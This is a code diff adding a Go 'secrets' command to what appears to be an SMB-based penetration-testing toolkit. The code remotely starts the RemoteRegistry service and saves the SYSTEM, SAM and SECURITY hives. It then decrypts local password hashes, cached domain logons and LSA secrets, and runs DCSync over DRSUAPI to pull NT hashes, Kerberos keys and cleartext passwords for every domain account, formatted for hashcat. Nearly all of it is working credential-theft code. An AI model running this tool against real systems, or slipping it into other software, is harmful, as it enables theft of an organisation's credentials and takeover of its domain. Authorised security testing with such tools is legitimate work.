@@ -0,0 +1,353 @@
+package main
+
+import (
+	"encoding/hex"
+	"flag"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"time"
+	"unicode"
+
+	"github.com/ericblavier/go-smb/hive"
+	"github.com/ericblavier/go-smb/smb"
+	"github.com/ericblavier/go-smb/smb/dcerpc/msdrsr"
+	"github.com/ericblavier/go-smb/smb/dcerpc/msscmr"
+	"github.com/ericblavier/go-smb/smb/encoder"
+	"golang.org/x/crypto/md4"
+)
+
+// A dumped credential
+type secretRecord struct {
+	Type         string   `json:"type"` // sam, lsa, cached or ntds
+	Name         string   `json:"name"`
+	RID          uint32   `json:"rid,omitempty"`
+	LMHash       string   `json:"lm_hash,omitempty"`
+	NTHash       string   `json:"nt_hash,omitempty"`
+	Secret       string   `json:"secret,omitempty"` // Hex encoded for binary LSA secrets
+	KerberosKeys []string `json:"kerberos_keys,omitempty"`
+	Text         string   `json:"text"` // pwdump or hashcat format
+}
+
+// Names of the Kerberos encryption types in supplementalCredentials
+var kerberosKeyTypes = map[int32]string{
+	1:  "des-cbc-crc",
+	3:  "des-cbc-md5",
+	17: "aes128-cts-hmac-sha1-96",
+	18: "aes256-cts-hmac-sha1-96",
+	23: "rc4_hmac",
+}
+
+// Section headers of the text output
+var secretSections = map[string]string{
+	"sam":    "Dumping local SAM hashes (uid:rid:lmhash:nthash)",
+	"lsa":    "Dumping LSA secrets",
+	"cached": "Dumping cached domain logon information (domain/username:hash)",
+	"ntds":   "Dumping domain credentials via DRSUAPI (domain\\uid:rid:lmhash:nthash)",
+}
+
+// Service that must run for the registry to be reachable over winreg
+const remoteRegistryService = "RemoteRegistry"
+
+// A kind of secret and its records
+type secretSet struct {
+	kind    string // sam, lsa, cached or ntds
+	records []secretRecord
+}
+
+// writeSecrets writes the records of one kind of secret in the text format
+func writeSecrets(w io.Writer, set secretSet) {
+	fmt.Fprintf(w, "[*] %s\n", secretSections[set.kind])
+	for _, record := range set.records {
+		fmt.Fprintln(w, record.Text)
+		for _, key := range record.KerberosKeys {
+			fmt.Fprintf(w, "%s:%s\n", record.Name, key)
+		}
+	}
+}
+
+// printSecrets prints the records of one kind of secret
+func printSecrets(kind string, records []secretRecord) {
+	if *jsonOutput {
+		for _, record := range records {
+			emit(record)
+		}
+		return
+	}
+	writeSecrets(os.Stdout, secretSet{kind, records})
+}
+
+// printableUTF16 decodes a UTF-16 secret if it consists of printable
+// characters
+func printableUTF16(secret []byte) (string, bool) {
+	if len(secret)%2 != 0 {
+		return "", false
+	}
+	s, err := encoder.FromUnicodeString(secret)
+	if err != nil {
+		return "", false
+	}
+	s = strings.TrimRight(s, "\x00")
+	for _, r := range s {
+		if !unicode.IsPrint(r) {
+			return "", false
+		}
+	}
+	return s, s != ""
+}
+
+// lsaSecretRecord formats an LSA secret the way secretsdump does for the
+// well known secrets and as hex otherwise
+func lsaSecretRecord(secret hive.LSASecret) secretRecord {
+	record := secretRecord{Type: "lsa", Name: secret.Name, Secret: hex.EncodeToString(secret.Secret)}
+	switch {
+	case strings.EqualFold(secret.Name, "$MACHINE.ACC"):
+		h := md4.New()
+		h.Write(secret.Secret)
+		record.NTHash = hex.EncodeToString(h.Sum(nil))
+		record.LMHash = hex.EncodeToString(hive.EmptyLMHash)
+		record.Text = fmt.Sprintf("$MACHINE.ACC:plain_password_hex:%s\n$MACHINE.ACC: %s:%s", record.Secret, record.LMHash, record.NTHash)
+	case strings.EqualFold(secret.Name, "DPAPI_SYSTEM") && len(secret.Secret) >= 44:
+		record.Text = fmt.Sprintf("dpapi_machinekey:0x%x\ndpapi_userkey:0x%x", secret.Secret[4:24], secret.Secret[24:44])
+	case strings.EqualFold(secret.Name, "NL$KM"):
+		record.Text = fmt.Sprintf("NL$KM:%s", record.Secret)
+	default:
+		if s, ok := printableUTF16(secret.Secret); ok {
+			record.Secret = s
+			record.Text = fmt.Sprintf("%s:%s", secret.Name, s)
+		} else {
+			record.Text = fmt.Sprintf("%s:%s", secret.Name, record.Secret)
+		}
+	}
+	return record
+}
+
+// ntdsRecord formats an account replicated from a domain controller
+func ntdsRecord(domain string, account *msdrsr.ReplicatedAccount) secretRecord {
+	lm, nt := account.LMHash, account.NTHash
+	if len(lm) == 0 {
+		lm = hive.EmptyLMHash
+	}
+	if len(nt) == 0 {
+		nt = hive.EmptyNTHash
+	}
+	record := secretRecord{
+		Type:   "ntds",
+		Name:   domain + `\` + account.SAMAccountName,
+		RID:    account.Rid,
+		LMHash: hex.EncodeToString(lm),
+		NTHash: hex.EncodeToString(nt),
+		Secret: account.ClearTextPassword,
+	}
+	record.Text = fmt.Sprintf("%s:%d:%s:%s:::", record.Name, record.RID, record.LMHash, record.NTHash)
+	for _, key := range account.KerberosKeys {
+		name, found := kerberosKeyTypes[key.KeyType]
+		if !found {
+			name = fmt.Sprint(key.KeyType)
+		}
+		record.KerberosKeys = append(record.KerberosKeys, name+":"+hex.EncodeToString(key.Key))
+	}
+	return record
+}
+
+// startRemoteRegistry starts the remote registry service if it is stopped
+// and returns a function that restores its state
+func startRemoteRegistry(conn *smb.Connection) (restore func(), err error) {
+	restore = func() {}
+	rpccon, err := bindServiceManager(conn)
+	if err != nil {
+		return
+	}
+	state, err := rpccon.GetServiceStatus(remoteRegistryService)
+	if err != nil || state != msscmr.ServiceStopped {
+		return
+	}
+	fmt.Fprintf(os.Stderr, "Starting the %s service\n", remoteRegistryService)
+	if err = rpccon.StartService(remoteRegistryService, nil); err != nil {
+		return
+	}
+	if _, err = waitForState(rpccon, remoteRegistryService, msscmr.ServiceRunning); err != nil {
+		return
+	}
+	// Give the service a moment to create its pipe
+	time.Sleep(time.Second)
+	return func() {
+		fmt.Fprintf(os.Stderr, "Stopping the %s service\n", remoteRegistryService)
+		if err := rpccon.ControlService(remoteRegistryService, msscmr.ServiceControlStop); err != nil {
+			fmt.Fprintf(os.Stderr, "Failed to stop the %s service: %s\n", remoteRegistryService, err)
+		}
+	}, nil
+}
+
+// decryptHives decrypts the secrets of the SAM and SECURITY hives that are
+// not nil with the boot key from the SYSTEM hive
+func decryptHives(system, sam, security *hive.Hive) (bootKey []byte, sets []secretSet, err error) {
+	if bootKey, err = hive.BootKey(system); err != nil {
+		return
+	}
+
+	if sam != nil {
+		accounts, err := hive.DumpSAM(sam, bootKey)
+		if err != nil {
+			return bootKey, sets, err
+		}
+		records := make([]secretRecord, 0, len(accounts))
+		for _, account := range accounts {
+			records = append(records, secretRecord{
+				Type:   "sam",
+				Name:   account.Name,
+				RID:    account.RID,
+				LMHash: hex.EncodeToString(account.LMHash),
+				NTHash: hex.EncodeToString(account.NTHash),
+				Text:   account.String(),
+			})
+		}
+		sets = append(sets, secretSet{"sam", records})
+	}
+
+	if security != nil {
+		creds, err := hive.DumpCachedCredentials(security, bootKey)
+		if err != nil {
+			return bootKey, sets, err
+		}
+		records := make([]secretRecord, 0, len(creds))
+		for _, cred := range creds {
+			records = append(records, secretRecord{Type: "cached", Name: cred.Domain + "/" + cred.User, Text: cred.String()})
+		}
+		sets = append(sets, secretSet{"cached", records})
+
+		secrets, err := hive.DumpLSASecrets(security, bootKey)
+		if err != nil {
+			return bootKey, sets, err
+		}
+		records = make([]secretRecord, 0, len(secrets))
+		for _, secret := range secrets {
+			records = append(records, lsaSecretRecord(secret))
+		}
+		sets = append(sets, secretSet{"lsa", records})
+	}
+	return
+}
+
+// dumpHives saves the SYSTEM hive and the SAM and SECURITY hives as needed
+// from the remote registry and decrypts the selected secrets
+func dumpHives(conn *smb.Connection, sam, lsa bool) error {
+	restore, err := startRemoteRegistry(conn)
+	if err != nil {
+		return fmt.Errorf("Failed to start the %s service: %s", remoteRegistryService, err)
+	}
+	defer restore()
+	client, err := bindRegistry(conn)
+	if err != nil {
+		return err
+	}
+	load := func(name string) (*hive.Hive, error) {
+		data, err := saveHive(conn, client, `HKLM\`+name)
+		if err != nil {
+			return nil, fmt.Errorf("Failed to save the %s hive: %s", name, err)
+		}
+		return hive.Open(data)
+	}
+	system, err := load("SYSTEM")
+	if err != nil {
+		return err
+	}
+	var samHive, security *hive.Hive
+	if sam {
+		if samHive, err = load("SAM"); err != nil {
+			return err
+		}
+	}
+	if lsa {
+		if security, err = load("SECURITY"); err != nil {
+			return err
+		}
+	}
+
+	bootKey, sets, err := decryptHives(system, samHive, security)
+	if bootKey != nil && !*jsonOutput {
+		fmt.Printf("[*] Target system bootKey: 0x%x\n", bootKey)
+	}
+	for _, set := range sets {
+		printSecrets(set.kind, set.records)
+	}
+	return err
+}
+
+// dumpNTDS replicates the secrets of domain accounts from a domain controller
+// over DRSUAPI. All accounts are enumerated over SAMR unless a user is given.
+func dumpNTDS(conn *smb.Connection, user string) error {
+	samr, domainHandle, domainName, err := openAccountDomain(conn)
+	if err != nil {
+		return err
+	}
+	var users []string
+	if user != "" {
+		users = []string{user}
+	} else {
+		accounts, err := samr.SamrEnumDomainUsers(domainHandle, 0, 0)
+		if err != nil {
+			return err
+		}
+		for _, account := range accounts {
+			users = append(users, account.Name)
+		}
+	}
+
+	// Replicated secrets are only returned over an encrypted binding
+	bind, err := bindPrivacy(conn, msdrsr.MSRPCDrsrPipe, msdrsr.MSRPCUuidDrsr, msdrsr.MSRPCDrsrMajorVersion, msdrsr.MSRPCDrsrMinorVersion)
+	if err != nil {
+		return err
+	}
+	rpccon := msdrsr.NewRPCCon(bind)
+	handle, err := rpccon.DRSBind()
+	if err != nil {
+		return err
+	}
+	defer rpccon.DRSUnbind(handle)
+
+	records := make([]secretRecord, 0, len(users))
+	for _, name := range users {
+		account, err := rpccon.DCSync(handle, msdrsr.DsNT4AccountName, domainName+`\`+name)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "Failed to replicate %s: %s\n", name, err)
+			continue
+		}
+		records = append(records, ntdsRecord(domainName, account))
+	}
+	printSecrets("ntds", records)
+	return nil
+}
+
+func runSecrets(args []string) error {
+	fs := flag.NewFlagSet("secrets", flag.ExitOnError)
+	sam := fs.Bool("sam", false, "Dump the local SAM hashes")
+	lsa := fs.Bool("lsa", false, "Dump the LSA secrets and cached domain logons")
+	ntds := fs.Bool("ntds", false, "Dump the domain hashes from a domain controller over DRSUAPI")
+	ntdsUser := fs.String("ntds-user", "", "Only replicate the given account with -ntds")
+	fs.Parse(args)
+	if fs.NArg() != 1 {
+		return fmt.Errorf("Usage: secrets [-sam] [-lsa] [-ntds [-ntds-user user]] <host>")
+	}
+	if !*sam && !*lsa && !*ntds {
+		*sam, *lsa = true, true
+	}
+	host := fs.Arg(0)
+
+	conn, err := connect(host)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+
+	if *sam || *lsa {
+		if err = dumpHives(conn, *sam, *lsa); err != nil {
+			return err
+		}
+	}
+	if *ntds {
+		return dumpNTDS(conn, *ntdsUser)
+	}
+	return nil
+}